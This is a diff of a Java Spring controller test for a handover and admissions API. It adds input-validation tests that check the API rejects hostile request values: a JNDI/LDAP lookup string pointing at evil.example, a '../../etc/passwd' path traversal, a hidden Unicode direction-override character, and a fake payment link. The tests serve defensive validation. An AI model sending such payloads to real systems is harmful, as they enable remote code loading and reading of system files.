@@ -1,7 +1,7 @@
 package org.homecoming.transport.handovers;
 
 import org.homecoming.platform.security.Roles;
-import org.homecoming.platform.web.ProblemResponses;
+import org.homecoming.platform.web.WebInputRules;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.webmvc.test.autoconfigure.WebMvcTest;
@@ -23,7 +23,7 @@ import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.
 
 @WithMockUser(username = "reception-1", roles = Roles.RECEPTION_STAFF)
 @WebMvcTest(HandoverController.class)
-@Import(ProblemResponses.class)
+@Import(WebInputRules.class)
 class HandoverControllerTest {
 
     @Autowired
@@ -45,7 +45,7 @@ class HandoverControllerTest {
     void shouldRefuseATriageLevelThatDoesNotExist() throws Exception {
         mvc.perform(post("/api/v1/handovers").contentType(MediaType.APPLICATION_JSON).content("""
                         {"personId": "p-1", "busId": "bus-1", "identityVerified": true, "triageLevel": "CRITICAL",
-                         "destinationFacility": "Chernihiv Regional Hospital"}"""))
+                         "destinationFacility": "chernihiv-regional-hospital"}"""))
                 .andExpect(status().isBadRequest())
                 .andExpect(jsonPath("$.errors[0].field").value("triageLevel"));
     }
@@ -56,6 +56,33 @@ class HandoverControllerTest {
                 .andExpect(status().isBadRequest())
                 .andExpect(jsonPath("$.errors[0].field").value("facility"));
 
+        verify(desk, never()).admit(anyString(), anyString());
+    }
+
+    @Test
+    void shouldRefuseIdsThatBreakTheEntityIdRule() throws Exception {
+        mvc.perform(post("/api/v1/handovers").contentType(MediaType.APPLICATION_JSON).content("""
+                        {"personId": "p-1\u202E", "busId": "../../etc/passwd", "identityVerified": true, "triageLevel": "URGENT",
+                         "destinationFacility": "${jndi:ldap://evil.example/a}"}"""))
+                .andExpect(status().isBadRequest())
+                .andExpect(jsonPath("$.errors[*].field", containsInAnyOrder("personId", "busId", "destinationFacility")));
+
+        verify(desk, never()).handOver(anyString(), anyString(), anyBoolean(), any(), anyString());
+    }
+
+    @Test
+    void shouldRefuseAFreeTextFacilityAndUnknownFields() throws Exception {
+        mvc.perform(post("/api/v1/handovers").contentType(MediaType.APPLICATION_JSON).content("""
+                        {"personId": "p-1", "busId": "bus-1", "identityVerified": true, "triageLevel": "URGENT",
+                         "destinationFacility": "Hospital - pay the processing fee at http://evil.example/pay"}"""))
+                .andExpect(status().isBadRequest())
+                .andExpect(jsonPath("$.errors[0].field").value("destinationFacility"));
+        mvc.perform(post("/api/v1/admissions").contentType(MediaType.APPLICATION_JSON).content("""
+                        {"personId": "p-1", "facility": "chernihiv-regional-hospital", "note": "call me"}"""))
+                .andExpect(status().isBadRequest())
+                .andExpect(jsonPath("$.errors[0].field").value("note"));
+
+        verify(desk, never()).handOver(anyString(), anyString(), anyBoolean(), any(), anyString());
         verify(desk, never()).admit(anyString(), anyString());
     }
 }
